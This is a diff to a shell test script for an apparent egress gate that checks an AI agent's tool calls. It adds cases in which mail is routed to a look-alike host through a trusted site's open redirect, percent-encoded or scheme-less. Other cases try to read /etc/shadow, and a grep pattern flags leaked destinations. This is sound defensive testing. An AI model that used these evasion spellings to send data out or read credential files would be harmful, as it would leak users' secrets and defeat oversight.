@@ -4,7 +4,8 @@
 # gate's second pass, each class through the real binaries: addresses in
 # raw headers of any name or shape, keys of a destination object that
 # split into destination words, JSON text inside a string, a trusted
-# mailbox with another address in its comment, URLs joined or nested,
+# mailbox with another address in its comment, URLs joined or nested
+# (the nested one percent-encoded too, or without its scheme),
 # forbidden resource globs against other spellings of the same place,
 # template URIs escaped whole or filled through a destination-shaped
 # variable, and a question that shows a look-alike host as the other
@@ -81,6 +82,11 @@ blocked send_email "{$B,\"options\":\"{\\\"cc\\\":[\\\"spy@new.example\\\"]}\"}"
 blocked send_email '{"to":["alice@corp.example (spy@new.example)"],"body":"x"}' "$UNASKED"
 blocked send_email '{"to":["https://wiki.corp.example/x,https://fresh.example/"],"body":"x"}' "$UNASKED"
 blocked send_email '{"to":["https://wiki.corp.example/r?u=https://fresh.example/"],"body":"x"}' "$UNASKED"
+# the redirect's target percent-encoded (once, twice) or without its
+# scheme, as a trusted site's open redirect reads it
+blocked send_email '{"to":["https://wiki.corp.example/r?u=https%3A%2F%2Ffresh.example%2F"],"body":"x"}' "$UNASKED"
+blocked send_email '{"to":["https://wiki.corp.example/r?u=https%253A%252F%252Ffresh.example"],"body":"x"}' "$UNASKED"
+blocked send_email '{"to":["https://wiki.corp.example/r?u=//fresh.example/"],"body":"x"}' "$UNASKED"
 # forbidden resources in other spellings of the same file
 for u in 'file:///etc/shadow' 'file:////etc/shadow' 'file:///etc//shadow' \
     'file:///etc/shadow?x' 'file:///etc/shadow#x' \
@@ -98,7 +104,7 @@ rblocked resources/read '{"uri":"fetch://https%3A%2F%2Ffresh.example%2F%3Fd%3DSE
 ping_ok 98
 stop_monitor
 [ "$MON_STATUS" = 0 ] || fail "monitor exited $MON_STATUS"
-grep -E 'spy|leak|new\.example|shadow|ssh|drop\.evil' "$TESTDIR/mail.log" |
+grep -E 'spy|leak|new\.example|fresh|shadow|ssh|drop\.evil' "$TESTDIR/mail.log" |
     grep -v '"method":"initialize"' && fail "an attack reached the upstream"
 # and a question names a look-alike host for what it is
 start_script mail <<'YAML'
